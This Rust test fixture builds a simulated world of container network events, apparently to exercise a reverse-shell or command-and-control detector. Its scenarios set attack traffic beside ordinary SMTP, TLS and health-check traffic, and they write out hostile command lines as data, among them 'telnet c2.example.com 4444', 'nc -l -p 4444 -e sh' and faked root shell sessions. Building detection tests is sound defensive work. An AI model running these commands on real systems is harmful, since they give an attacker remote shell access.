//! A world in which everything happens at once, for the properties.

use std::net::IpAddr;

use observation::{Grammar, Network, PortId, Side, Transport};

use crate::servers;
use crate::table::FAR;
use crate::talk::Talk;
use crate::world::{Box_, GATEWAY, START_MS, World, words};

/// Attacks, their twins, and ordinary traffic, within some minutes.
pub(crate) fn world() -> World {
    let mut world = World::new();
    runs_that_are_equal(&mut world);
    conversations(&mut world);
    silences(&mut world);
    inside_of_long_running_ones(&mut world);
    networks_of_others(&mut world);
    called_from_without(&mut world);
    checked_in_at(&mut world);
    ordinary(&mut world);
    world
}

fn shell(talk: &mut Talk) -> Talk {
    talk.far(400, "id\n").near(6, "uid=0(root) gid=0(root)\n");
    talk.far(900, "ls /\n").near(7, "bin\ndev\netc\nproc\n").end()
}

fn runs_that_are_equal(world: &mut World) {
    world.host_process(700, START_MS - 20, "docker run --rm alpine telnet c2.example.com 4444");
    for number in 2..6 {
        let mut it = Box_::throw_away(number, "telnet c2.example.com 4444");
        it.created_ms += u64::from(number) * 1500;
        world.start(&it);
        let ms = it.created_ms + 250;
        world.dns(&it, ms - 4, "c2.example.com", Ok(FAR));
        let mut talk = Talk::open(&it, 52_000, (FAR, 4444), ms);
        world.socket(&talk, it.cgroup, it.pid);
        // The later they come, the sooner the far end speaks.
        talk.far(9000 / u64::from(number), "id; uname -a\n");
        let ended = talk.now_ms;
        world.talk(talk.end());
        world.exit(&it, ended + 5, 0);
    }
}

fn conversations(world: &mut World) {
    // One command per connection, by name.
    let it = Box_::throw_away(10, "/opt/job");
    world.start(&it);
    for round in 0..4 {
        let ms = START_MS + 300 + round * 4100;
        world.dns(&it, ms - 10, "job.example.com", Ok(FAR));
        let port = 52_000 + u16::try_from(round).unwrap();
        let mut talk = Talk::open(&it, port, (FAR, 8443), ms);
        world.socket(&talk, it.cgroup, it.pid);
        talk.far(100, "id; exit\n").near(5, "uid=0(root) gid=0(root)\n");
        world.talk(talk.end());
    }
    // A grammar that is obeyed, by a raw client; and one that is left.
    let it = Box_::throw_away(11, "telnet 198.51.100.10 25");
    world.start(&it);
    let mut talk = Talk::open(&it, 52_000, (FAR, 25), START_MS + 300);
    world.socket(&talk, it.cgroup, it.pid);
    talk.say(Side::Responder, 3, "22", Grammar::None);
    talk.say(Side::Responder, 400, "0 mail.example.com ESMTP\r\n", Grammar::Obeyed);
    talk.say(Side::Originator, 900, "HELO shop\r\n", Grammar::Obeyed);
    talk.protocols.push("smtp");
    world.talk(talk.end());
    let it = Box_::throw_away(12, "/opt/mailer");
    world.start(&it);
    let mut talk = Talk::open(&it, 52_000, (FAR, 26), START_MS + 2_300);
    talk.say(Side::Responder, 3, "220 mail.example.com ESMTP\r\n", Grammar::Obeyed);
    talk.say(Side::Responder, 900, "id\n", Grammar::Left);
    talk.say(Side::Originator, 5, "uid=0(root) gid=0(root)\n", Grammar::Left);
    talk.protocols.push("smtp");
    world.talk(talk.end());
    // A name that leads nowhere, and one that does at the second try.
    let it = Box_::throw_away(13, "telnet nowhere.example.com 4444");
    world.start(&it);
    world.dns(&it, START_MS + 1250, "nowhere.example.com", Err(3));
    let it = Box_::throw_away(14, "telnet second.example.com 4444");
    world.start(&it);
    world.dns(&it, START_MS + 250, "second.example.com", Err(2));
    world.dns(&it, START_MS + 5300, "second.example.com", Ok(FAR));
    let mut talk = Talk::open(&it, 52_000, (FAR, 4445), START_MS + 5310);
    world.talk(shell(&mut talk));
}

fn silences(world: &mut World) {
    // Held for long, then a shell; held and ended; refused; killed.
    for (number, then_speaks) in [(20, true), (21, false)] {
        let it = Box_::throw_away(number, "/opt/healthd");
        world.start(&it);
        let port = 7000 + u16::from(number);
        let mut talk = Talk::open(&it, 52_000, (FAR, port), START_MS + 260);
        world.socket(&talk, it.cgroup, it.pid);
        talk.wait(23_000);
        world.talk(if then_speaks { shell(&mut talk) } else { talk.end() });
    }
    // Replicas, of which the first is silent for longer than the second.
    for (number, silence, late) in [(24, 31_000, 0), (25, 100, 12_000)] {
        let mut it = Box_::throw_away(number, "/opt/twin");
        it.created_ms += late;
        world.start(&it);
        let mut talk = Talk::open(&it, 52_000, (FAR, 7024), it.created_ms + 300);
        world.socket(&talk, it.cgroup, it.pid);
        talk.wait(silence);
        world.talk(shell(&mut talk));
    }
    let it = Box_::throw_away(22, "nc 198.51.100.10 7022");
    world.start(&it);
    let near = (it.address, 52_000);
    let mut talk = Talk::open_at(it.port, Transport::Tcp, near, (FAR, 7022), START_MS + 250);
    world.socket(&talk, it.cgroup, it.pid);
    world.talk(talk.wait(1).end());
    let it = Box_::throw_away(23, "nc 198.51.100.10 7023");
    world.start(&it);
    world.talk(Talk::open(&it, 52_000, (FAR, 7023), START_MS + 250));
    world.exit(&it, START_MS + 4_300, 137);
}

fn inside_of_long_running_ones(world: &mut World) {
    let it = Box_::long_running(30, "/srv/shop --port 80");
    world.start(&it);
    // What the workload does all the time, and what somebody does by hand, to the same far end.
    let mut talk = Talk::open(&it, 51_000, (FAR, 9100), START_MS + 100);
    talk.wait(7_000);
    world.talk(talk.end());
    world.exec(&it, START_MS + 9_000, "/opt/healthd 9100");
    world.process(&it, 9_700, 850, START_MS + 9_040, &words("/opt/healthd 9100"));
    let mut talk = Talk::open(&it, 52_000, (FAR, 9100), START_MS + 9_200);
    world.socket(&talk, it.cgroup, 9_700);
    world.talk(shell(&mut talk));
    // Two processes, of which none may be guessed.
    let it = Box_::throw_away(31, "/opt/pair");
    world.start(&it);
    world.process(&it, it.pid + 1, it.pid, START_MS + 240, &words("/opt/other"));
    world.talk(shell(&mut Talk::open(&it, 52_000, (FAR, 9200), START_MS + 400)));
}

fn networks_of_others(world: &mut World) {
    // An address and its new owner.
    let gone = Box_::throw_away(40, "/opt/report");
    world.start(&gone);
    let mut talk = Talk::open(&gone, 51_000, (FAR, 9300), START_MS + 260);
    talk.far(3, "hello\n");
    world.talk(talk.end());
    world.exit(&gone, START_MS + 300, 0);
    let mut heir = Box_::throw_away(41, "/opt/heir");
    (heir.address, heir.created_ms) = (gone.address, START_MS + 2_400);
    world.start(&heir);
    world.talk(shell(&mut Talk::open(&heir, 52_000, (FAR, 9400), START_MS + 2_650)));
    // The host's network, a sandbox, and a process of the host.
    let mut host = Box_::throw_away(42, "/opt/onhost");
    host.network = Network::Host;
    world.start(&host);
    for (port, cgroup) in [(9500, host.cgroup), (9501, 77)] {
        let near = (IpAddr::from([192, 168, 7, 2]), 50_000 + port);
        let ms = START_MS + 400;
        let mut talk = Talk::open_at(PortId::of_host(2), Transport::Tcp, near, (FAR, port), ms);
        world.socket(&talk, cgroup, host.pid);
        talk.wait(1);
        world.talk(shell(&mut talk.accepted()));
    }
    let web = Box_::long_running(43, "/srv/web");
    world.start(&web);
    let mut guest = Box_::throw_away(44, "/opt/guest");
    guest.network = Network::Container(web.id);
    world.create(&guest);
    world.describe(&guest, START_MS + 60);
    world.process(&guest, guest.pid, 900, START_MS + 200, &words("/opt/guest"));
    let mut talk = Talk::open(&web, 52_000, (FAR, 9600), START_MS + 5_300);
    world.socket(&talk, guest.cgroup, guest.pid);
    world.talk(shell(&mut talk));
    // One of the two, and nobody says which.
    let mut talk = Talk::open(&web, 52_001, (FAR, 9601), START_MS + 400);
    world.talk(shell(&mut talk));
}

fn called_from_without(world: &mut World) {
    // A shell of a throw-away run, which is called twice, and one that somebody has put into a
    // workload that is asked something else all the time.
    let it = Box_::throw_away(60, "nc -l -p 4444 -e sh");
    world.start(&it);
    for (port, ms) in [(40_000, START_MS + 900), (40_001, START_MS + 8_300)] {
        let mut talk = servers::called(&it, 4444, (FAR, port), ms);
        servers::accepted(world, &talk, it.cgroup);
        world.talk(served(&mut talk));
    }
    let it = Box_::long_running(61, "/srv/queue --port 7000");
    world.start(&it);
    world.exec(&it, START_MS + 6_000, "/opt/healthd");
    world.process(&it, 9_900, 850, START_MS + 6_040, &words("/opt/healthd"));
    for (port, caller) in [(7000, 41_000_u16), (7000, 41_001), (5555, 41_002)] {
        let ms = START_MS + 6_500 + u64::from(caller - 41_000) * 700;
        let mut talk = servers::called(&it, port, (GATEWAY, caller), ms);
        servers::accepted(world, &talk, it.cgroup);
        if port == 5555 {
            world.talk(served(&mut talk));
        } else {
            talk.say(Side::Originator, 5, "STATUS\n", Grammar::None);
            talk.say(Side::Responder, 2, "READY 3\n", Grammar::None);
            world.talk(talk.end());
        }
    }
}

/// Three that check in every twelve seconds or so.
fn checked_in_at(world: &mut World) {
    let it = Box_::long_running(62, "/srv/cart");
    world.start(&it);
    for (caller, every) in [(30_u8, 12_000), (31, 13_500), (32, 11_000)] {
        for round in 0..12_u16 {
            let address = IpAddr::from([198, 51, 100, caller]);
            let jitter = u64::from(round * 37 % 11) * 90;
            let ms = START_MS + u64::from(caller) * 50 + u64::from(round) * every + jitter;
            let mut talk = servers::called(&it, 8765, (address, 30_000 + round), ms);
            talk.say(Side::Originator, 5, "\u{1}\u{2}\u{3}", Grammar::None);
            talk.say(Side::Responder, 3, "\u{1}\u{0}\u{5}", Grammar::None);
            world.talk(talk.end());
        }
    }
}

fn served(talk: &mut Talk) -> Talk {
    talk.say(Side::Originator, 400, "id\n", Grammar::None);
    talk.say(Side::Responder, 6, "uid=0(root) gid=0(root)\n", Grammar::None);
    talk.say(Side::Originator, 900, "ls /\n", Grammar::None);
    talk.say(Side::Responder, 7, "bin\ndev\netc\nproc\n", Grammar::None).end()
}

fn ordinary(world: &mut World) {
    let it = Box_::long_running(50, "/srv/api");
    world.start(&it);
    for round in 0..40_u16 {
        let far = (IpAddr::from([198, 51, 100, 20]), 443);
        let ms = START_MS + u64::from(round) * 700;
        let mut talk = Talk::open(&it, 40_000 + round, far, ms);
        talk.say(Side::Originator, 1, "\u{16}\u{3}\u{1}", Grammar::Unchecked);
        talk.say(Side::Responder, 2, "\u{16}\u{3}\u{3}", Grammar::Unchecked);
        talk.protocols.push("tls");
        world.talk(talk.end());
    }
}
